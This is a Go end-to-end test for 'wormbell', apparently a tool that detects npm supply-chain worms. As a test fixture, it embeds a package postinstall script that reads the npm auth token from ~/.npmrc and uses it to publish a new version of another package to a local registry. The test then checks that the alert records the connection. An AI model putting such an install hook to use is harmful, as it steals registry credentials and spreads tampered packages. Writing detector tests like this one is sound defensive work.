package e2e

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"wormbell"
)

// TestDirectPut: a worm that publishes without npm is told with where it has
// connected to, and what it connects to later is added to the same alert.
func TestDirectPut(t *testing.T) {
	needRoot(t)
	needNPM(t)
	m := start(t, options{})
	at, err := url.Parse(m.registry.URL)
	if err != nil {
		t.Fatal(err)
	}
	m.seed(pkg{name: "evil", version: "1.0.0", scripts: map[string]any{"postinstall": "node put.js"}, files: map[string]string{"put.js": fmt.Sprintf(`
const fs = require('fs'), http = require('http')
const token = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8').match(/_authToken=(.*)/)[1]
const body = JSON.stringify({ _id: 'victim', name: 'victim', versions: { '1.0.1': { name: 'victim', version: '1.0.1', dist: {} } }, _attachments: {} })
const r = http.request(%q, { method: 'PUT', headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' } }, s => { s.resume() })
r.on('error', () => {})
r.write(body)
const poll = setInterval(() => { if (fs.existsSync(process.env.HOME + '/enough')) { clearInterval(poll); r.end() } }, 50)
`, m.registry.URL+"/victim")}})
	m.write("~/app/package.json", `{"name":"app","version":"1.0.0","private":true}`)
	j := m.background("sh", "-c", "cd "+m.path("~/app")+" && npm install evil@1.0.0")
	alert, _ := m.rings("credential-read")
	connection := func() *wormbell.Event {
		for _, a := range m.alerts() {
			for _, f := range a.Findings {
				for _, e := range f.Evidence {
					if a.ID == alert.ID && e.Kind == wormbell.ConnectionSeen {
						return &e
					}
				}
			}
		}
		return nil
	}
	m.until("the connection", 20*time.Second, func() bool { return connection() != nil })
	e := connection()
	if e.Address != at.Host || !e.Loopback() || e.User == "" || e.Process == nil || e.Process.Package.String() != "evil@1.0.0" || e.Demo {
		t.Errorf("evidence %+v of %v, want a connection of evil@1.0.0 to %s", e, e.Process, at.Host)
	}
	out, _ := m.wormbell("alert", "show", alert.ID)
	if !strings.Contains(out, "connected to") || !strings.Contains(out, at.Host+" (this machine)") {
		t.Errorf("alert show does not say where to:\n%s", out)
	}
	m.write("~/enough", "")
	m.until("the install to end", 60*time.Second, func() bool {
		select {
		case <-j.done:
			return true
		default:
			return false
		}
	})
	all := m.alerts()
	if i := slices.IndexFunc(all, func(a wormbell.Alert) bool { return a.ID == alert.ID }); i < 0 || all[i].Count != 1 || all[i].Severity != wormbell.High || len(all[i].Findings) != 1 {
		t.Errorf("%+v: the connection is no finding of its own", all)
	}
}
